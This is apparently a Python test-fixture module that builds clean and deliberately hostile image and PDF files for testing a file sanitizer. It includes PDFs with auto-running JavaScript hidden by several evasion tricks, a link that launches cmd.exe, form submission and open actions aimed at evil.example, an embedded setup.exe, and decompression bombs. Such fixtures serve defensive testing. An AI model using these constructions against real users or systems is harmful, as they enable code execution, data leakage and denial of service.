"""Files made in the tests: good ones, and those that somebody made to do harm."""

import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas

SECRET = b"35.6762N 139.6503E"  # a place in metadata that must not be kept
EXIF_ORIENTATION, EXIF_DESCRIPTION, EXIF_GPS = 0x0112, 0x010E, 0x8825


def picture(width: int = 240, height: int = 160, mode: str = "RGB") -> Image.Image:
    """A picture whose upper left corner is dark, so that one sees which way is up."""
    drawn = Image.new("L", (width, height), 230)
    ImageDraw.Draw(drawn).rectangle((0, 0, width // 4, height // 4), fill=10)
    return drawn.convert(mode)


def png(width: int = 240, height: int = 160, mode: str = "RGB") -> bytes:
    """A PNG."""
    return saved(picture(width, height, mode), "PNG")


def jpeg(width: int = 240, height: int = 160) -> bytes:
    """A JPEG."""
    return saved(picture(width, height), "JPEG")


def tiff(pages: int = 1, mode: str = "1") -> bytes:
    """A TIFF of one or several pages."""
    first, *more = [picture(mode=mode) for _ in range(pages)]
    return saved(first, "TIFF", save_all=True, append_images=more, compression="tiff_lzw")


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def photograph() -> bytes:
    """A JPEG that lies on its side, says where it was taken, and goes on behind its end."""
    exif = Image.Exif()
    exif[EXIF_ORIENTATION] = 6  # turn by 90 degrees to the right
    exif[EXIF_DESCRIPTION] = SECRET.decode()
    exif.get_ifd(EXIF_GPS)[29] = "2026:11:24"
    return saved(picture(), "JPEG", exif=exif, comment=SECRET) + b"<script>" + SECRET


def talkative_png() -> bytes:
    """A PNG with texts, a profile and something behind its end."""
    from PIL.PngImagePlugin import PngInfo

    texts = PngInfo()
    texts.add_text("Location", SECRET.decode(), zip=True)
    texts.add_itxt("GPS", SECRET.decode())
    return saved(picture(), "PNG", pnginfo=texts, icc_profile=SECRET * 10) + b"PK\x03\x04" + SECRET


def pdf(pages: int = 2, texts: Sequence[str] = ("page",)) -> bytes:
    """A PDF with a word on each page."""
    out = io.BytesIO()
    canvas = Canvas(out)
    for number in range(pages):
        canvas.drawString(72, 700, f"{texts[number % len(texts)]} {number + 1}")
        canvas.rect(72, 500, 200, 100, fill=1)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def changed(change: Callable[[PdfWriter], object]) -> bytes:
    """A PDF after a change."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def name(text: str) -> NameObject:
    return NameObject(text)


def dictionary(**entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def script_action() -> DictionaryObject:
    return dictionary(S=name("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def _root(writer: PdfWriter) -> DictionaryObject:
    return writer._root_object


def _annotation(writer: PdfWriter, **entries: PdfObject) -> None:
    rect = ArrayObject(NumberObject(number) for number in (0, 0, 10, 10))
    annotation = dictionary(Type=name("/Annot"), Rect=rect, **entries)
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def with_script_at_opening() -> bytes:
    """JavaScript that runs when the file is opened."""
    return changed(lambda writer: _root(writer).update({name("/OpenAction"): script_action()}))


def with_script_by_name() -> bytes:
    """JavaScript in the name tree of the document."""

    def change(writer: PdfWriter) -> None:
        tree = dictionary(JavaScript=dictionary(Names=ArrayObject([script_action()])))
        writer._root_object[name("/Names")] = tree

    return changed(change)


def with_hidden_script() -> bytes:
    """JavaScript far down below a page, in an object that only a private entry refers to."""

    def change(writer: PdfWriter) -> None:
        deep: PdfObject = writer._add_object(script_action())
        for _ in range(30):
            deep = dictionary(Next=ArrayObject([deep]))
        writer.pages[1][name("/Private")] = deep

    return changed(change)


def with_script_in_escaped_name() -> bytes:
    """/J#53 is /JS to every viewer."""
    return (
        with_script_at_opening()
        .replace(b"/JavaScript", b"/Java#53cript")
        .replace(b"/JS", b"/#4a#53")
    )


def with_script_in_object_stream() -> bytes:
    """Catalog and action lie packed in an object stream."""
    return packed_pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def with_additional_actions() -> bytes:
    """Something happens when a page is shown."""
    opened = dictionary(O=dictionary(S=name("/Named"), N=name("/Print")))
    return changed(lambda writer: writer.pages[0].update({name("/AA"): opened}))


def with_launch() -> bytes:
    """A click starts a program."""
    return changed(
        lambda writer: _annotation(
            writer,
            Subtype=name("/Link"),
            A=dictionary(S=name("/Launch"), F=TextStringObject("cmd.exe")),
        )
    )


def with_submission() -> bytes:
    """A form that sends what is typed to somebody."""
    return changed(
        lambda writer: _annotation(
            writer,
            Subtype=name("/Widget"),
            A=dictionary(S=name("/SubmitForm"), F=TextStringObject("https://evil.example")),
        )
    )


def with_opened_address() -> bytes:
    """A website opens with the file."""
    action = dictionary(S=name("/URI"), URI=TextStringObject("https://evil.example"))
    return changed(lambda writer: _root(writer).update({name("/OpenAction"): action}))


def with_embedded_file() -> bytes:
    """Another file inside."""
    return changed(lambda writer: writer.add_attachment("setup.exe", b"MZ"))


def with_media() -> bytes:
    """A film."""
    return changed(lambda writer: _annotation(writer, Subtype=name("/RichMedia")))


def with_xfa() -> bytes:
    """A form of the other kind."""
    form = dictionary(XFA=TextStringObject("<xdp/>"))
    return changed(lambda writer: _root(writer).update({name("/AcroForm"): form}))


def with_link() -> bytes:
    """A link that only a click follows: harmless, but not kept."""
    return changed(
        lambda writer: _annotation(
            writer,
            Subtype=name("/Link"),
            A=dictionary(S=name("/URI"), URI=TextStringObject("https://city.example")),
        )
    )


def with_script_of_an_older_revision() -> bytes:
    """The script stands in a first revision; a later one took it out of sight."""
    old = with_script_at_opening()
    begin = int(old[old.rindex(b"startxref") :].split()[1])
    trailer = PdfReader(io.BytesIO(old)).trailer
    root = trailer.raw_get("/Root").idnum
    catalog_now = trailer["/Root"]
    assert isinstance(catalog_now, DictionaryObject)
    pages = catalog_now.raw_get("/Pages").idnum
    place = len(old)
    catalog = f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R >>\nendobj\n"
    table = f"xref\n{root} 1\n{place:010d} 00000 n \n"
    end = f"trailer\n<< /Size {trailer['/Size']} /Root {root} 0 R /Prev {begin} >>\n"
    end += f"startxref\n{place + len(catalog)}\n%%EOF\n"
    return old + f"{catalog}{table}{end}".encode()


def with_filled_field() -> bytes:
    """A form whose field is filled: its appearance is a black bar across the page."""

    def change(writer: PdfWriter) -> None:
        bar = StreamObject()
        bar._data = b"0 g 0 0 612 100 re f"
        box = ArrayObject(NumberObject(number) for number in (0, 0, 612, 100))
        bar.update(dictionary(Type=name("/XObject"), Subtype=name("/Form"), BBox=box))
        field = dictionary(
            Type=name("/Annot"),
            Subtype=name("/Widget"),
            FT=name("/Tx"),
            T=TextStringObject("name"),
            F=NumberObject(4),
            Rect=ArrayObject(NumberObject(number) for number in (0, 692, 612, 792)),
            AP=dictionary(N=writer._add_object(bar)),
        )
        reference = writer._add_object(field)
        writer.pages[0][name("/MediaBox")] = ArrayObject(
            NumberObject(number) for number in (0, 0, 612, 792)
        )
        writer.pages[0][name("/Annots")] = ArrayObject([reference])
        _root(writer)[name("/AcroForm")] = dictionary(Fields=ArrayObject([reference]))

    return changed(change)


def with_password() -> bytes:
    """Closed by a password."""
    return changed(lambda writer: writer.encrypt("secret", algorithm="AES-256"))


def with_empty_password() -> bytes:
    """Encrypted, though everybody can open it."""
    return changed(lambda writer: writer.encrypt("", algorithm="RC4-128"))


def with_giant_stream(mebibytes: int = 450) -> bytes:
    """A page whose content unpacks to half a gibibyte."""
    squeezing = zlib.compressobj(1)
    squeezed = b"".join(squeezing.compress(b" " * (1 << 20)) for _ in range(mebibytes))
    squeezed += squeezing.flush()

    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = squeezed
        stream[name("/Filter")] = name("/FlateDecode")
        writer.pages[0][name("/Contents")] = writer._add_object(stream)

    return changed(change)


def with_doubly_packed_stream() -> bytes:
    """Packed twice: a thousandfold of a thousandfold."""

    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = zlib.compress(zlib.compress(b" " * (64 << 20), 9), 9)
        stream[name("/Filter")] = ArrayObject([name("/FlateDecode"), name("/FlateDecode")])
        writer.pages[0][name("/Contents")] = writer._add_object(stream)

    return changed(change)


def with_giant_picture() -> bytes:
    """A picture of 60,000 by 60,000 pixels in some bytes."""

    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = zlib.compress(b"\0" * 100_000)
        stream.update(
            dictionary(
                Type=name("/XObject"),
                Subtype=name("/Image"),
                Width=NumberObject(60_000),
                Height=NumberObject(60_000),
                BitsPerComponent=NumberObject(8),
                ColorSpace=name("/DeviceGray"),
                Filter=name("/FlateDecode"),
            )
        )
        pictures = dictionary(Im0=writer._add_object(stream))
        writer.pages[0][name("/Resources")] = dictionary(XObject=pictures)

    return changed(change)


def with_deep_nesting() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    depth = 100_000
    return hand_written([b"[" * depth + b"]" * depth])


def with_endless_page_tree() -> bytes:
    """A page tree that contains itself."""
    return hand_written([], pages=b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def with_many_pages(pages: int = 300) -> bytes:
    """More pages than are taken."""
    return pdf(pages)


def hand_written(more: Sequence[bytes], pages: bytes | None = None) -> bytes:
    """A PDF written object by object; further objects begin with number 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length 3 >>\nstream\nq Q\nendstream",
        *more,
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, text in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, text)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
    )
    return bytes(out)


def packed_pdf(action: str) -> bytes:
    """A PDF 1.5 whose catalog and action lie in an object stream."""
    inside = [
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"),
        (5, action.encode()),
    ]
    heads, bodies = b"", b""
    for number, text in inside:
        heads += b"%d %d " % (number, len(bodies))
        bodies += text + b" "
    packed = zlib.compress(heads + bodies)
    out = bytearray(b"%PDF-1.5\n")
    stream_at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(inside),
        len(heads),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    table_at = len(out)
    places = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, stream_at, 0), (2, 4, 3)]
    places.append((1, table_at, 0))
    table = zlib.compress(b"".join(struct.pack(">BIH", *place) for place in places))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
        b" /Length %d >>\nstream\n" % len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at
    return bytes(out)


# Bombs of pictures


def chunk(kind: bytes, content: bytes) -> bytes:
    checksum = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", checksum)


def vast_png(side: int = 60_000) -> bytes:
    """A PNG that says it is 60,000 pixels wide and high, and unpacks to that."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    squeezing = zlib.compressobj(9)
    row = b"\0" * (side + 1)
    rows = b"".join(squeezing.compress(row) for _ in range(500)) + squeezing.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def png_with_packed_text(mebibytes: int = 256) -> bytes:
    """A small PNG with a text of a quarter of a gibibyte."""
    squeezing = zlib.compressobj(9)
    text = b"".join(squeezing.compress(b" " * (1 << 20)) for _ in range(mebibytes))
    packed = chunk(b"zTXt", b"Comment\0\0" + text + squeezing.flush())
    whole = png()
    return whole[:33] + packed + whole[33:]  # behind IHDR


def vast_tiff(side: int = 60_000) -> bytes:
    """A TIFF that says it is 60,000 pixels wide and high."""
    return tiff_of([(side, side)])


def endless_tiff(pages: int = 10_000) -> bytes:
    """A TIFF of ten thousand small pages."""
    return tiff_of([(8, 8)] * pages)


def circular_tiff() -> bytes:
    """A TIFF whose second page is followed by its first."""
    whole = bytearray(tiff_of([(8, 8), (8, 8)]))
    first = struct.unpack_from("<I", whole, 4)[0]
    second = struct.unpack_from("<I", whole, first + 2 + 12 * 9)[0]
    struct.pack_into("<I", whole, second + 2 + 12 * 9, first)
    return bytes(whole)


def tiff_of(sizes: Sequence[tuple[int, int]]) -> bytes:
    """A TIFF written by hand: pages of grey that all show the same eight rows of bytes."""
    out = bytearray(b"II*\0\0\0\0\0" + b"\x80" * 64)
    link = 4
    for width, height in sizes:
        struct.pack_into("<I", out, link, len(out))
        tags = [
            (256, 4, width),
            (257, 4, height),
            (258, 3, 8),
            (259, 3, 1),
            (262, 3, 1),
            (273, 4, 8),
            (277, 3, 1),
            (278, 4, height),
            (279, 4, width * height),
        ]
        out += struct.pack("<H", len(tags))
        out += b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        link = len(out)
        out += b"\0\0\0\0"
    return bytes(out)


def moving_png() -> bytes:
    """A PNG that moves."""
    return saved(
        picture(), "PNG", save_all=True, append_images=[picture(mode="L").convert("RGB").rotate(90)]
    )


def several_photographs() -> bytes:
    """A JPEG with further pictures behind it (MPO), as phones make them."""
    return saved(picture(), "MPO", save_all=True, append_images=[picture()])
